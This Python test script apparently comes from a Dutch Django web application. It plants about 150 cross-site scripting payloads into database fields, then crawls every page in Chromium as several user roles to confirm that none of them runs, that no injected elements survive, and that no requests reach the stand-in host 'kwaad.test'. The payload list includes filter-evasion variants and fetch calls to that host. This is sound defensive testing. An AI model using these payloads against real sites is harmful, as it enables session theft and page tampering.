# ruff: noqa: S608  # tables and columns of ours
"""`run.py bewijs xss` (V11): a hundred and fifty payloads in every text field, on every page, in a real browser: nothing runs.

The words are planted straight in the tables, so that nothing on the way in can have tamed them. Chromium opens the pages as several
people; a script that ran, an element of ours in the page, a call to another host and a violation of our own policy are each wrong.
Part i of n takes every n-th page.
"""

from __future__ import annotations

import os
import sys
from collections import Counter
from typing import TYPE_CHECKING, Any
from uuid import UUID

import psycopg

from tests.crawl.mal import kopieer, lees
from tests.mallen import haal_weg, met_naam

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

MERK = "XSSzq"


def ladingen() -> list[str]:
    """Ways into HTML, an attribute, an address, a script, a style, a template, and past filters."""
    doe = [f"alert('{MERK}')", f"fetch('https://kwaad.test/{MERK}')", f"window.{MERK}=1"]
    vormen = [
        "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "\"><script>{}</script>", "'><img src=x onerror={}>", "\" onmouseover={} autofocus onfocus={} x=\"",
        "' onfocus={} autofocus x='", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x</a>", "javascript:{}//", "</textarea><script>{}</script>",
        "</title><script>{}</script>", "</script><script>{}</script>", "<details open ontoggle={}>", "<video><source onerror={}></video>", "<input autofocus onfocus={}>", "<math><mi xlink:href=javascript:{}>",
        "<form><button formaction=javascript:{}>x", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<style>@import 'https://kwaad.test/{}';</style>", "<link rel=stylesheet href=https://kwaad.test/{}>",
        "<base href=https://kwaad.test/{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "<xss-merk>{}</xss-merk>", "<p hx-get=https://kwaad.test/{} hx-trigger=load>",
        "<p hx-on::load={}>", "<div style=background:url(https://kwaad.test/{})>", "<ScRiPt>{}</sCrIpT>", "<scr\x00ipt>{}</script>", "<img src=`x` onerror={}>", "<svg><script>{}</script></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<!--><script>{}</script>-->", "<template><script>{}</script></template>", "\u2028{}\u2029", "</style><script>{}</script>",
        "<svg><animate onbegin={} attributeName=x dur=1s>", "<marquee onstart={}>", "<select autofocus onfocus={}>", "<audio src=x onerror={}>", "\\\"-{}-\\\"", "';{};//", "\";{};//", "<img src=x onerror=eval(atob('{}'))>",
        "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    ]  # fmt: skip
    alle = [
        f"{MERK}{vorm.format(*[daad] * vorm.count('{}'))}" if "{{" not in vorm else f"{MERK}{vorm.format(daad)}"
        for daad in doe
        for vorm in vormen
    ]
    return [lading.replace("\x00", "") for lading in alle][:150]


_KIJK = """() => {
  const bron = document.documentElement.outerHTML;
  const binnen = [...document.querySelectorAll('xss-merk, [onerror], [onload], [onfocus], [ontoggle], [onmouseover], [hx-on\\\\:\\\\:load], iframe[srcdoc], base')].map((e) => e.outerHTML.slice(0, 80));
  const adressen = [...document.querySelectorAll('[href^="javascript:"], [src^="javascript:"], [formaction^="javascript:"]')].map((e) => e.outerHTML.slice(0, 80));
  return { aantal: bron.split('XSSzq').length - 1, binnen, adressen, liep: 'XSSzq' in window, csp: window.__csp || [] };
}"""
_LUISTER = "window.__csp = []; addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"


def plant(wereld: Any) -> int:
    """In every column of `kanaries.csv`, in names of people, organisations and users: a payload, or as many as fit. How many were planted."""
    from django.db import connection

    from samenspel.kern.identiteit import als_eigenaar
    from tests.crawl.kopie import geheim_van
    from tests.crawl.wereld import kanaries
    from tests.matrix.naief import tabellen

    lijst, geplant = ladingen(), 0
    kolommen = [(tabel, kolom) for tabel, kolom, _merk in kanaries()] + [
        ("personen_persoon", "naam"),
        ("personen_persoon", "roepnaam"),
        ("personen_persoon", "tolk_taal"),
    ]
    losse = [("toegang_gebruiker", "naam"), ("toegang_gebruiker", "talen"), ("toegang_gebruiker", "bereikbaar"), ("organisaties_organisatie", "naam"), ("toegang_overeenkomst", "doelen"),
             ("toegang_betrokkenheid", "doel"), ("plan_plansjabloon", "naam"), ("plan_plansjabloon", "uitleg")]  # fmt: skip
    with als_eigenaar(), connection.cursor() as cursor:
        for naam in {"dossiers_dossier", *(tabel.naam for tabel in tabellen()), *(tabel for tabel, _kolom in losse)}:
            cursor.execute(f"alter table {naam} disable trigger user")
        for plek, (tabel, kolom) in enumerate([*kolommen, *losse]):
            cursor.execute(
                "select coalesce(character_maximum_length, 2000) from information_schema.columns where table_name = %s and column_name = %s",
                [tabel, kolom],
            )
            ((lengte,),) = cursor.fetchall()
            geheim = geheim_van(tabel).get(kolom)
            dossier, lengte = ("dossier_id", geheim.max_length or 2000) if geheim else ("null", lengte)
            cursor.execute(f"select id, {dossier} from {tabel} where coalesce({kolom}, '') <> '' order by id")
            for nummer, (pk, dossier_id) in enumerate(cursor.fetchall()):
                waarde, begin = "", (plek * 7 + nummer * 13) % len(lijst)
                for lading in lijst[begin:] + lijst[:begin]:
                    if len(waarde) + len(lading) < lengte:
                        waarde += lading
                        geplant += 1
                klaar = bytes(geheim.cijfer(dossier_id, waarde, rij=pk)) if geheim else waarde
                cursor.execute(f"update {tabel} set {kolom} = %s where id = %s", [klaar, pk])
        cursor.execute("set constraints all immediate")
        for naam in {"dossiers_dossier", *(tabel.naam for tabel in tabellen()), *(tabel for tabel, _kolom in losse)}:
            cursor.execute(f"alter table {naam} enable trigger user")
    return geplant


def bladen(wereld: Any) -> list[tuple[tuple[str, str], str]]:
    """(person, address) of every page that somebody reads."""
    from django.test import Client

    from tests.crawl.kruiper import Kruiper, Uitslag
    from tests.crawl.verwacht import Plaats, mag_volgens, routes

    kruiper = Kruiper(wereld, Uitslag())
    uit = []
    for route in routes():
        if route.lezen.split()[0] in {"geen", "dicht"}:
            continue
        for wie in (
            ("regievoerder", ""),
            ("functioneel_beheerder", ""),
            ("inburgeraar", ""),
            ("mb_coordinator", "loopt"),
            ("teamleider", ""),
        ):
            staten = (
                ["zichzelf"]
                if wie[0] == "inburgeraar"
                else ["loopt", "geen", "gestopt"]
                if wie[0] == "regievoerder" and route.dossier
                else ["loopt"]
            )
            for toestand in staten:
                if mag_volgens(route.lezen, Plaats(wie[0], toestand if route.dossier else "geen", eigen_rij=True)):
                    uit.append((wie, kruiper.adres(route, toestand, wie[0])))
    zoek = f"?zoek={MERK}%3Cscript%3Ealert(1)%3C/script%3E"
    assert Client
    return [*uit, *((wie, adres + zoek) for wie, adres in uit if adres.count("/") <= 3)]


def _kijk(blad: Page, adres: str, tel: Counter[str], mis: Counter[str]) -> None:
    naar: list[str] = []
    blad.on("request", lambda vraag: naar.append(vraag.url) if "kwaad.test" in vraag.url else None)
    blad.on("dialog", lambda vraag: (naar.append(f"dialog {vraag.message}"), vraag.dismiss()))
    try:
        antwoord = blad.goto(adres, wait_until="load", timeout=30_000)
    except Exception as fout:  # a file is saved and not shown
        tel["bestanden"] += "Download" in str(fout)
        return
    pad = adres.split("/", 3)[-1]
    if antwoord is None or antwoord.status >= 500:
        mis[f"/{pad}: {antwoord.status if antwoord else 'geen antwoord'}"] += 1
        return
    if not antwoord.headers.get("content-type", "").startswith(
        "text/html"
    ):  # a picture or a text, shown by the browser itself
        tel["bestanden"] += 1
        return
    gezien = blad.evaluate(_KIJK)
    tel["bladen"] += 1
    tel["weergaven"] += gezien["aantal"]
    for soort in ("binnen", "adressen", "csp"):
        mis.update(f"/{pad}: {soort}: {wat}" for wat in gezien[soort])
    if gezien["liep"] or naar:
        mis[f"/{pad}: liep, of vroeg {naar[:2]}"] += 1


def _venster(browser: Any, adres: str, wereld: Any, wie: tuple[str, str]) -> BrowserContext:
    from django.conf import settings
    from django.test import Client

    from tests.wereld import log_in

    client = Client()
    log_in(client, wereld.gebruikers[wie])
    venster: BrowserContext = browser.new_context(viewport={"width": 1280, "height": 900}, locale="nl-NL")
    venster.add_init_script(_LUISTER)
    venster.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": adres,
            }
        ]
    )
    return venster


def main(deel: str = "1/1") -> int:
    """Run one part; the last line is the outcome as JSON."""
    i, n = map(int, deel.split("/"))
    naam = f"bewijs_xss_{os.getpid()}"
    namen = kopieer(naam)
    server_url, eigenaar_url = os.environ["DATABASE_URL"], os.environ["DATABASE_URL_EIGENAAR"]
    os.environ |= {
        "DATABASE_URL": met_naam(server_url, naam), "DATABASE_URL_EIGENAAR": met_naam(eigenaar_url, naam), "DJANGO_SETTINGS_MODULE": "samenspel.config.settings",
        "SAMENSPEL_PROEF": "ja", "SAMENSPEL_POOL": "nee", "DJANGO_ALLOW_ASYNC_UNSAFE": "true",
    }  # fmt: skip
    import django

    django.setup()
    from django.db import connections

    from bewijzen._opstelling import einde
    from tests.verhalen.conftest import CHROMIUM, VLAGGEN, server_over

    tel, mis = Counter[str](), Counter[str]()
    try:
        wereld, _formulieren = lees(namen)
        tel["geplant"] = plant(wereld)
        deze = bladen(wereld)[i - 1 :: n]
        from playwright.sync_api import sync_playwright

        with server_over(naam) as adres, sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=VLAGGEN)
            for wie in dict.fromkeys(wie for wie, _pad in deze):
                venster = _venster(browser, adres, wereld, wie)
                for van, pad in deze:
                    if van == wie:
                        blad = venster.new_page()
                        _kijk(blad, adres + pad, tel, mis)
                        blad.close()
                venster.close()
            if not _controle(browser):
                mis["de controle zag niet: een blad waarin iets loopt"] += 1
            browser.close()
    finally:
        connections.close_all()
        os.environ |= {"DATABASE_URL": server_url, "DATABASE_URL_EIGENAAR": eigenaar_url}
        with psycopg.connect(os.environ["DATABASE_URL_BEHEER"], autocommit=True) as baas:  # may send the server away
            haal_weg(baas, naam)
    return einde(tel["weergaven"], mis, **tel, ladingen=len(ladingen()))


def _controle(browser: Any) -> bool:
    """Whether a page that puts the words in as they are is seen."""
    blad = browser.new_page()
    tel, mis = Counter[str](), Counter[str]()
    blad.add_init_script(_LUISTER)
    blad.route("**/*", lambda weg: weg.fulfill(body="<body>" + "".join(ladingen()), content_type="text/html"))
    _kijk(blad, "http://127.0.0.1/controle", tel, mis)
    blad.close()
    return any("binnen" in wat for wat in mis) and any("liep" in wat for wat in mis)


if __name__ == "__main__":
    assert UUID
    sys.exit(main(*sys.argv[1:2]))
